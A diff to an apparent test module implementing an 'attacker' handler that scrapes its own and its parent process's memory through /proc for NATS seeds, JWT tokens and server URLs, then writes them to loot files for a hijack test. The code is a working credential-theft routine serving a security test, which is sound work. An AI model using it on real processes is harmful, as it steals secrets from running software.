@@ -1,7 +1,7 @@
-"""A handler that is an attacker: it takes its agent's credentials out of memory and waits to be told what to do.
+"""A handler that is an attacker: it takes its agent's credentials out of memory and waits to be told.
 
-Beside that it works as the ordinary strategy does, so that nothing shows until the attack begins. Told by files in
-``HIJACK_DIR``: ``loot-<agent>`` is written by it, ``<agent>`` names the attack and is written by the test.
+Beside that it works as the ordinary strategy does, so that nothing shows until the attack begins. In
+``HIJACK_DIR`` it writes what it took, ``loot-<agent>-<pid>``; the test writes ``<agent>``: the attack's name.
 """
 
 from __future__ import annotations
@@ -53,8 +53,8 @@ def _hijack() -> None:
 
 def _loot() -> dict[str, str] | None:
     """Seed, token and address, wherever in this process or its parent they are."""
-    for pid in (os.getpid(), os.getppid()):
-        memory = b"\n".join(_memory(pid))
+    for pid in ("self", str(os.getppid())):
+        memory = b"\n".join(_memory(Path("/proc") / pid))
         seeds = {seed.decode() for seed in re.findall(rb"SU[A-Z2-7]{56}", memory)}
         urls = re.findall(rb"nats://127\.0\.0\.1:\d+", memory)
         for token in set(re.findall(rb"eyJ[\w-]{20,60}\.[\w-]{100,2000}\.[\w-]{80,90}", memory)):
@@ -72,9 +72,9 @@ def _loot() -> dict[str, str] | None:
     return None
 
 
-def _memory(pid: int) -> list[bytes]:
+def _memory(process: Path) -> list[bytes]:
     found = []
-    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
+    with (process / "maps").open() as maps, (process / "mem").open("rb", 0) as memory:
         for line in maps:
             span, rights, *_ = line.split()
             begin, end = (int(part, 16) for part in span.split("-"))
